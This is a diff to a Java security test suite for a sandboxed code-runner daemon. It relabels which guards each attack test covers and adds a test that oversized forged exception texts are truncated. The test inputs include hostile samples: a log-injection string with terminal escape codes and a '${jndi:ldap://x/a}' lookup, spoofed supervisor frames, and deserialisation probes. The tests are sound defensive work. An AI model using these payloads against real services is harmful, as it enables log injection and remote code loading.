@@ -70,7 +70,7 @@ class GroupBCodeTest {
       row = "B1",
       what = "garbage on the channel",
       expected = "PROTOCOL_VIOLATION",
-      guards = "channel.kinds")
+      guards = "channel.sender")
   void garbage(String code) {
     assertViolation(run(code));
   }
@@ -95,7 +95,7 @@ class GroupBCodeTest {
       row = "B2",
       what = "lengths that lie, and messages that never end",
       expected = "PROTOCOL_VIOLATION, the daemon's memory is flat",
-      guards = {"channel.frame_size", "channel.pending"})
+      guards = {"channel.frame_size", "channel.unfinished"})
   void lengthBombs(String code) {
     // The daemon has 128 MiB in all and leaves at once when they are not enough.
     assertViolation(run(code + "\ntime.sleep(100)"));
@@ -120,7 +120,7 @@ class GroupBCodeTest {
       row = "B4",
       what = "half a frame, then the end",
       expected = "an end by what happened, no hang",
-      guards = "channel.end")
+      guards = "by design: the end of the streams is an end")
   void halfAFrameAndTheEnd(String end) {
     Transcript run = run("send(struct.pack('>IBI', 1000, CALL, 1) + b'x' * 10)\n" + end);
 
@@ -203,12 +203,15 @@ class GroupBCodeTest {
       row = "B8",
       what = "kinds that nobody has, or that only the daemon or the supervisor may send",
       expected = "PROTOCOL_VIOLATION",
-      guards = {"channel.kinds", "channel.sender"})
+      guards = "channel.sender")
   void kinds() {
     // All 256 in every state are tried on the codec in GroupBAgentTest; these go the whole way.
     for (int kind : List.of(0, 1, 2, 4, 13, 32, 50, 69, 96, 97, 99, 100, 101, 127)) {
       assertViolation(run("send(frame(%d, b'{}', 1))\ntime.sleep(100)".formatted(kind)));
     }
+    // As good as the supervisor's own, but for who sent them: output, and credit.
+    assertViolation(run("send(frame(98, b'\\1\\0\\0\\0\\0x', 1))\ntime.sleep(100)", 4000));
+    assertViolation(run("send(frame(101, b'\\3\\0\\0\\0\\0', 0))\ntime.sleep(100)", 4000));
   }
 
   @ParameterizedTest(name = "{0}")
@@ -226,15 +229,15 @@ class GroupBCodeTest {
       row = "B9",
       what = "data that some reader would make objects of",
       expected = "bytes or plain JSON, nothing else",
-      guards = "channel.json_only")
+      guards = "by design: JSON trees only")
   void deserialisation(String data) {
     Transcript run =
         run(
-            "send(headed(ENDED, {'how': 'completed', 'value_repr': 'forged'}, %s))\ntime.sleep(100)"
+            "send(headed(ENDED, {'how': 'completed', 'value_repr': 'forged'}, %s))\ntime.sleep(1)\nos._exit(0)"
                 .formatted(data),
             3000);
 
-    assertThat(run.outcome()).as(run::toString).isIn(Outcome.SUCCEEDED, Outcome.TIMED_OUT);
+    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.SUCCEEDED);
     String json = run.finished().getValue().getJson().toStringUtf8();
     assertThat(json).matches("|\\{\"[@$](class|type)\".*");
     Transcript plain = run("import pickle; pickle.dumps(print), b'\\xac\\xed\\0\\5'");
@@ -266,7 +269,7 @@ class GroupBCodeTest {
       row = "B10",
       what = "values that are deep, wide or their own parts",
       expected = "SUCCEEDED, with a text of bounded length and no JSON",
-      guards = "agent.value")
+      guards = "channel.bounded_texts")
   void deepValues() {
     for (String value :
         List.of(
@@ -293,7 +296,7 @@ class GroupBCodeTest {
       row = "B11",
       what = "text that is no text: halves of characters, directions, zeros, other encodings",
       expected = "SUCCEEDED, the bytes as they were",
-      guards = "agent.text")
+      guards = "agent.type_name")
   void oddText() {
     Transcript run =
         daemon.run(
@@ -323,7 +326,7 @@ class GroupBCodeTest {
       row = "B12",
       what = "lines and codes that deceive a terminal or a log",
       expected = "SUCCEEDED, the caller gets the bytes and the log one line of JSON",
-      guards = "log.json")
+      guards = "log.of_libraries")
   void logInjection() {
     String text = "\\x1b]0;pwn\\x07\\x1b[2J\\r\\nERROR tenant=other run ok ${jndi:ldap://x/a}";
     Transcript run =
@@ -400,7 +403,7 @@ class GroupBCodeTest {
       row = "B15",
       what = "a million calls whose answers nobody reads",
       expected = "PROTOCOL_VIOLATION, LIMIT_EXCEEDED or TIMED_OUT; the daemon's memory is flat",
-      guards = {"tools.in_flight", "channel.window", "run.lookups"})
+      guards = {"tools.in_flight", "by design: windows", "by design: a count of look-ups"})
   void floodWithoutReading(String code) {
     AtomicInteger calls = new AtomicInteger();
     Transcript run =
@@ -444,7 +447,7 @@ class GroupBCodeTest {
       row = "B17",
       what = "the interpreter that the program shares with the agent, taken apart",
       expected = "any outcome of the program's; nothing beyond its sandbox",
-      guards = "channel.end")
+      guards = "by design: the end of the streams is an end")
   void attackOnTheAgent(String code) {
     Transcript run = daemon.run(program(code + "\n").setLimits(wall(3000)));
 
@@ -490,7 +493,7 @@ class GroupBCodeTest {
       row = "B18",
       what = "every way to end",
       expected = "an outcome of the program's, exactly one, no hang",
-      guards = "channel.end")
+      guards = "by design: the end of the streams is an end")
   void exits(String code) {
     Transcript run =
         daemon.run(
@@ -530,7 +533,7 @@ class GroupBCodeTest {
       row = "B19",
       what = "exceptions that fight the one who describes them",
       expected = "an outcome of the program's, every text bounded",
-      guards = "agent.exception")
+      guards = "agent.type_name")
   void exceptions(String body) {
     Transcript run =
         daemon.run(
@@ -549,7 +552,7 @@ class GroupBCodeTest {
       row = "B19",
       what = "groups and chains of a hundred thousand exceptions",
       expected = "an outcome of the program's, every text bounded",
-      guards = "agent.exception")
+      guards = "agent.type_name")
   void chainsOfExceptions() {
     for (String code :
         List.of(
@@ -580,7 +583,7 @@ class GroupBCodeTest {
       row = "B20",
       what = "games with standard input while the caller sends a lot of it",
       expected = "an outcome of the program's, the daemon's memory is flat",
-      guards = "channel.stdin_window")
+      guards = "by design: windows")
   void stdin(String code) {
     LiveRun run =
         daemon
@@ -618,7 +621,7 @@ class GroupBCodeTest {
       row = "B22",
       what = "one half of the channel closed, in every state",
       expected = "an outcome of the program's, the place in the pool is free again",
-      guards = "channel.end")
+      guards = "by design: the end of the streams is an end")
   void halfClose(String code) {
     Transcript run = run(code + "\ntime.sleep(0.2)", 3000);
 
@@ -630,6 +633,47 @@ class GroupBCodeTest {
             Outcome.TIMED_OUT,
             Outcome.PROTOCOL_VIOLATION,
             Outcome.SANDBOX_LOST);
+  }
+
+  @Test
+  @Attack(
+      row = "B19",
+      what = "an end that the program made itself, with texts of megabytes",
+      expected = "every text as short as the contract says",
+      guards = "channel.bounded_texts")
+  void forgedTexts() {
+    String parts =
+        """
+        def parts(kind, payload, stream=1):
+            for at in range(0, len(payload), 4000):
+                more = 128 if at + 4000 < len(payload) else 0
+                send(frame(kind | more, payload[at:at + 4000], stream))
+        def end(header, bulk=b''):
+            header = json.dumps(header).encode()
+            parts(ENDED, struct.pack('>I', len(header)) + header + bulk)
+            time.sleep(1) # the supervisor's word about the death must not overtake it
+            os._exit(0)
+        big = '\u00e4' * 100_000
+        """;
+    Transcript raised =
+        run(
+            parts
+                + "end({'how': 'exception', 'exception': {'type': big, 'message': big, 'traceback': big}})",
+            4000);
+    assertThat(raised.finished().getException().getType()).as(raised::toString).isNotEmpty();
+    assertThat(raised.finished().getException().getTypeBytes().size()).isLessThanOrEqualTo(1 << 10);
+    assertThat(raised.finished().getException().getMessageBytes().size())
+        .isLessThanOrEqualTo(16 << 10);
+    assertThat(raised.finished().getException().getTracebackBytes().size())
+        .isLessThanOrEqualTo(64 << 10);
+
+    Transcript value =
+        run(
+            parts + "end({'how': 'completed', 'value_repr': big}, b'[' + b'1,' * 10**6 + b'1]')",
+            4000);
+    assertThat(value.finished().getValue().getReprBytes().size()).isBetween(1, 64 << 10);
+    assertThat(value.finished().getValue().getReprCut()).isTrue();
+    assertThat(value.finished().getValue().getJson()).isEmpty();
   }
 
   // ---- what they have in common ----
